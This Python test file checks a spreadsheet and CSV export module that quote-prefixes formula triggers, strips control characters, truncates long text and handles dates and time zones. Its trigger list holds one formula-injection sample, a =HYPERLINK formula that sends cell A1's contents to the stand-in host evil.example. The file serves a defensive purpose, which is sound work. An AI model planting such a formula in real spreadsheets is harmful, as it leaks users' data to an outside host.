"""Safe cells: formula triggers stay text (openpyxl would write a formula), control characters go, dates are real."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import IllegalCharacterError

from atlas_desktop.exports import cells

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
TRIGGERED = [HYPERLINK, "=1+1", "+40 21 555 0100", "-2+3", "@SUM(A1:A2)", "\tindented", "\rcarriage", "=", "#N/A"]


def _round_trip(value: str, *, safe: bool) -> tuple[str, object, str]:
    """Write ``value`` to a workbook (safely or as openpyxl would), then read the stored cell back raw."""
    wb = openpyxl.Workbook()
    cell = wb.active["A1"]
    if safe:
        cells.put(cell, value)
    else:
        cell.value = value
    written_type = cell.data_type
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    read = openpyxl.load_workbook(buffer, read_only=True, data_only=False).active
    back = next(read.iter_rows())[0]
    return written_type, back.value, back.data_type


def test_openpyxl_on_its_own_writes_a_hyperlink_formula():
    # The threat this module exists for: a name typed as =HYPERLINK(...) becomes a live formula.
    written_type, value, read_type = _round_trip(HYPERLINK, safe=False)
    assert written_type == "f" and read_type == "f"
    assert value == HYPERLINK


@pytest.mark.parametrize("text", TRIGGERED)
def test_every_trigger_is_written_as_a_quote_prefixed_string_and_reads_back_as_the_same_text(text):
    wb = openpyxl.Workbook()
    cell = wb.active["A1"]
    cells.put(cell, text)
    assert cell.data_type == "s"
    assert cell.quotePrefix is (text[0] in "=+-@\t\r")
    written_type, value, read_type = _round_trip(text, safe=True)
    assert (written_type, read_type) == ("s", "s")
    assert value == text


def test_plain_text_gets_no_quote_prefix():
    wb = openpyxl.Workbook()
    cell = wb.active["A1"]
    cells.put(cell, "Payroll")
    assert cell.data_type == "s" and not cell.quotePrefix


def test_control_characters_openpyxl_rejects_are_removed_not_crashed_on():
    text = "Bell\x07 and\x00 escape\x1b kept\ttab\nline"
    wb = openpyxl.Workbook()
    with pytest.raises(IllegalCharacterError):
        wb.active["A1"].value = text
    cells.put(wb.active["A2"], text)
    assert wb.active["A2"].value == "Bell and escape kept\ttab\nline"
    assert cells.csv_text(text) == "Bell and escape kept\ttab\nline"


def test_text_longer_than_a_cell_is_cut_with_a_visible_mark():
    long = "x" * 40_000
    wb = openpyxl.Workbook()
    cells.put(wb.active["A1"], long)
    stored = wb.active["A1"].value
    assert len(stored) == cells.EXCEL_TEXT_LIMIT
    assert cells.was_cut(stored) and long.startswith(cells.uncut(stored))
    assert not cells.was_cut("short")


def test_dates_and_times_are_real_excel_dates_with_formats():
    wb = openpyxl.Workbook()
    ws = wb.active
    cells.put(ws["A1"], dt.date(2026, 3, 31))
    cells.put(ws["A2"], dt.datetime(2026, 3, 31, 9, 15))
    cells.put(ws["A3"], dt.datetime(2026, 3, 31, 9, 15, 7))
    assert [ws[c].data_type for c in ("A1", "A2", "A3")] == ["d", "d", "d"]
    assert (ws["A1"].number_format, ws["A2"].number_format, ws["A3"].number_format) == (
        cells.DATE_FORMAT, cells.TIME_FORMAT, cells.SECONDS_FORMAT)
    with pytest.raises(ValueError):
        cells.put(ws["A4"], dt.datetime(2026, 3, 31, 9, 15, tzinfo=dt.UTC))


def test_numbers_excel_cannot_hold_exactly_are_written_as_text():
    wb = openpyxl.Workbook()
    cells.put(wb.active["A1"], 2 ** 62)
    cells.put(wb.active["A2"], 12)
    assert wb.active["A1"].value == str(2 ** 62) and wb.active["A1"].data_type == "s"
    assert wb.active["A2"].value == 12


def test_wall_clock_times_and_the_hour_the_clocks_repeat():
    zone = "Europe/Bucharest"
    plain = dt.datetime(2026, 7, 1, 6, 30, tzinfo=dt.UTC)
    assert cells.excel_time(plain, zone) == dt.datetime(2026, 7, 1, 9, 30)
    assert cells.read_time(dt.datetime(2026, 7, 1, 9, 30), zone) == plain
    # 26 October 2025: 03:30 happens at 00:30 UTC (EEST) and again at 01:30 UTC (EET).
    first, second = dt.datetime(2025, 10, 26, 0, 30, tzinfo=dt.UTC), dt.datetime(2025, 10, 26, 1, 30, tzinfo=dt.UTC)
    # Both are written with their offset: a bare 03:30 would name two instants, and an import refuses to guess.
    assert cells.excel_time(first, zone) == "2025-10-26 03:30:00+03:00"
    assert dt.datetime.fromisoformat(cells.excel_time(first, zone)) == first
    assert cells.excel_time(second, zone) == "2025-10-26 03:30:00+02:00"
    assert dt.datetime.fromisoformat(cells.excel_time(second, zone)) == second
    assert cells.excel_date(dt.date(1850, 1, 1)) == "1850-01-01"
    assert cells.excel_time(dt.datetime(1890, 1, 1, tzinfo=ZoneInfo("UTC")), "UTC") == "1890-01-01 00:00:00+00:00"


@pytest.mark.parametrize("text", [*TRIGGERED, "'already quoted", "plain", ""])
def test_csv_fields_get_a_leading_quote_that_reading_removes(text):
    field = cells.csv_text(text)
    if text and text[0] in "=+-@\t\r'":
        assert field == "'" + text
    else:
        assert field == text
    buffer = io.StringIO()
    csv.writer(buffer).writerow([field])
    (read,) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells.from_csv_text(read) == text


def test_lists_join_readably_and_split_back():
    assert cells.join_list(["Employees", "Customers"]) == "Employees; Customers"
    assert cells.join_list(["a;b", '"q', 'x"y']) == '"a;b"; """q"; x"y'
    assert cells.split_list("Employees;Customers\nVisitors ;  ; ") == ["Employees", "Customers", "Visitors"]


ENTRY = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=15) \
    .map(lambda s: " ".join(s.split())).filter(bool)


@settings(max_examples=200)
@given(st.lists(ENTRY, max_size=5))
def test_any_list_of_entries_survives_a_cell(items):
    assert cells.split_list(cells.join_list(items)) == items
